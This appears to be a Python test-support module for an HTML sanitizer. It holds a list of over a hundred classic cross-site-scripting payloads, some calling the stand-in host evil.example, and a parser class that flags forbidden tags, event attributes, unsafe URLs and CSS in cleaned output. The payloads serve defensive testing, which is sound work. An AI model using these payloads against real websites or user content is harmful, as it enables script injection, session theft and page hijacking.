"""Classic attacks on HTML cleaners, and the invariants any cleaned HTML must keep."""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script/x>alert(1)</script/x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" ',
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src='jav\tascript:alert(1)'>",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<img src=x srcset='http://evil.example/a 1x'>",
    "<image src=http://evil.example/a.png>",
    "<input type=image src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097script:alert(1)'>x</a>",
    "<a href='\x01java\x03script:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/admin/logout'>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<a href='http://ok.example' target=_self rel=opener>x</a>",
    "<a href='http://ok.example' ping='http://evil.example'>x</a>",
    "<a name=location href='http://ok.example' id=defaultView>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x.class></applet>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<div style='background:url(http://evil.example/x)'>x</div>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='width:exp/**/ression(alert(1))'>x</div>",
    "<div style='color:red;behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style='background-color:\\75\\72\\6c(http://evil.example)'>x</div>",
    "<div style='list-style:url(http://evil.example/x)'>x</div>",
    '<div style=\'font-family:""}body{background:url(http://evil.example)}"\'>x</div>',
    "<table background='http://evil.example/x'><td background=javascript:alert(1)>x</td></table>",
    "<body onload=alert(1) background='http://evil.example/x'>x",
    "<form action='http://evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<select><option><script>alert(1)</script></select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)><source src=http://evil.example/v></video>",
    "<audio src=http://evil.example/a autoplay></audio>",
    "<video poster=javascript:alert(1)//>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<bgsound src=http://evil.example/s>",
    "<layer src=http://evil.example/x></layer>",
    "<keygen autofocus onfocus=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?import namespace='t' implementation='x'?>",
    "<comment><img src='</comment><img src=x onerror=alert(1)//'>",
    "<listing>&lt;img onerror=alert(1) src&gt;</listing>",
    "<p id=x name=y class='modal open'>x</p>",
    "<img name=getElementById><form id=attributes><input name=attributes></form>",
    "<p data-quote='x\" onmouseover=\"alert(1)'>x</p>",
    "<img data-remote-src='javascript:alert(1)' src=x>",
    "<img data-remote-src='https://evil.example/\" onerror=\"alert(1)'>",
    "<img data-cid='x\" onerror=\"alert(1)' alt=x>",
    "<img src='cid:x\" onerror=\"alert(1)' alt=x>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4=' alt=x>",
    "<img src='data:image/png;base64,AAAA\" onerror=\"alert(1)' alt=x>",
    "<img alt='` onerror=alert(1) `' src=http://evil.example/x>",
    "<p title='&quot; onmouseover=alert(1) x=&quot;'>x</p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='https://ok.example/\ud800'>\ud800</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<a href='http://a.example'><a href='javascript:alert(1)'>x</a></a>",
    "<table><a href='http://a.example'><tr><td><a href='http://b.example'>x</a>",
    "<p><table><p onclick=alert(1)><svg></table><img src=x onerror=alert(1)>",
    "<a href='tel:+7000'>t</a><a href='mailto:a@b.example?subject=x'>m</a>",
    "<x onclick=alert(1) style='color:red'>x</x>",
    "<div onpointerrawupdate=alert(1) contenteditable autofocus tabindex=1>x</div>",
]

_FORBIDDEN_TAGS = frozenset(
    {
        "script", "style", "svg", "math", "form", "input", "button", "textarea", "select", "iframe", "frame",
        "frameset", "object", "embed", "applet", "base", "meta", "link", "video", "audio", "source",
        "template", "noscript", "xmp", "title", "marquee", "bgsound", "image", "isindex", "keygen", "details",
        "dialog", "portal", "picture",
    }
)  # fmt: skip
_FORBIDDEN_ATTRIBUTES = frozenset(
    {"id", "name", "class", "srcset", "action", "formaction", "background", "ping", "srcdoc", "poster", "xlink:href"}
)
_INLINE_IMAGE = re.compile(r"data:image/(?:png|gif|jpe?g|webp);base64,[A-Za-z0-9+/]+=*", re.IGNORECASE)


class Invariants(HTMLParser):
    """Reads cleaned HTML with another parser than the one that wrote it and collects what must not be there."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.broken: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check an element and its attributes."""
        if tag in _FORBIDDEN_TAGS:
            self.broken.append(tag)
        for name, value in attrs:
            self._attribute(tag, name, value or "")
        given = dict(attrs)
        if tag == "a" and (given.get("target"), given.get("rel")) != ("_blank", "noopener noreferrer nofollow"):
            self.broken.append(f"link {given}")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in _FORBIDDEN_ATTRIBUTES:
            self.broken.append(f"{tag}.{name}")
        if name == "href" and not re.match(r"(?:https?://|mailto:|tel:)", value, re.IGNORECASE):
            self.broken.append(f"href {value}")
        if name == "src" and not _INLINE_IMAGE.fullmatch(value):
            self.broken.append(f"src {value}")
        if name == "data-remote-src" and not re.match(r"https?://", value, re.IGNORECASE):
            self.broken.append(f"remote {value}")
        if name == "style" and re.search(
            r"url|expression|position|@|\\|behavior|binding|javascript|/\*", value.lower()
        ):
            self.broken.append(f"style {value}")

    def handle_comment(self, data: str) -> None:
        """No comment survives."""
        self.broken.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        """No declaration survives."""
        self.broken.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        """No processing instruction survives."""
        self.broken.append(f"instruction {data}")
